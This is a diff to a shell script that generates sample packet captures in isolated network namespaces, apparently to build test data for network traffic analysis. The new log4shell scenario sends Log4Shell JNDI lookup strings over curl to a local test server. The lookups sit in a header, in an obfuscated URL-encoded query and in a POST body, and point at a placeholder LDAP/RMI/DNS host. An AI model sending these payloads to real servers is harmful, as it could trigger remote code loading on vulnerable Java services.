@@ -10,6 +10,7 @@
 # the namespaces, which are removed again on exit (also on failure).
 #
 # Environment:
+#   SAMPLES="http dns ..."      only these scenarios (default: all; the names are scn_* below)
 #   VLAN_MODE=auto|kernel|vde   how vlan-ipv6-ping.pcap gets its 802.1Q tags
 #       kernel: "ip link add link veth0 name veth0.42 type vlan id 42"
 #       vde:    hosts on access ports of two vde_switch instances, joined by
@@ -281,6 +282,26 @@ scn_http() {
 	teardown
 }
 
+scn_log4shell() {
+	log "log4shell-curl: curl sends Log4Shell lookups to python3 http.server on $SRV4:80"
+	setup_pair
+	start_http "$NS_SRV" "$SRV4"
+	capture_start "$NS_SRV" veth0 log4shell-curl
+	# the lookup in a header, obfuscated and URL-encoded in a query, in the body of a POST;
+	# 10.77.0.2 (the client) plays the attacker's LDAP/RMI/DNS server, which never answers
+	nsx "$NS_CLI" curl -sS --max-time 10 -o /dev/null -w '%{http_code}\n' \
+		-H 'User-Agent: ${jndi:ldap://10.77.0.2:1389/Exploit}' "http://$SRV4/" \
+		>>"$WORK/log/clients.log"
+	nsx "$NS_CLI" curl -sS --max-time 10 -o /dev/null -w '%{http_code}\n' -G \
+		--data-urlencode 'q=${${lower:j}ndi:rmi://10.77.0.2:1099/x}' "http://$SRV4/search" \
+		>>"$WORK/log/clients.log"
+	nsx "$NS_CLI" curl -sS --max-time 10 -o /dev/null -w '%{http_code}\n' \
+		--data 'name=${jndi:dns://10.77.0.2/probe}' "http://$SRV4/form" \
+		>>"$WORK/log/clients.log" || true
+	capture_stop
+	teardown
+}
+
 scn_dns() {
 	log "dns-dig: dig -> dnsmasq on $SRV4:53 (udp + one tcp)"
 	setup_pair
@@ -534,13 +555,10 @@ main() {
 	mkdir -p "$WORK/log" "$WORK/out"
 	make_content
 
-	scn_http
-	scn_dns
-	scn_nmap
-	scn_ssh
-	scn_smtp
-	scn_vlan
-	scn_vxlan
+	local scn
+	for scn in ${SAMPLES:-http dns nmap ssh smtp vlan vxlan log4shell}; do
+		"scn_$scn"
+	done
 
 	mkdir -p "$outdir"
 	local f name size pkts
